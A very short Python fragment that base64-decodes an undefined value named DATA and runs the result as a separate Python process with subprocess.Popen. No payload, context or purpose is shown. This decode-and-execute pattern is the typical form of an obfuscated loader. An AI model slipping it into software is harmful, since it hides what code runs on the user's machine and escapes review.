import base64, subprocess
code = base64.b64decode(DATA).decode()
command = ["python", "-c", code]
subprocess.Popen(command)
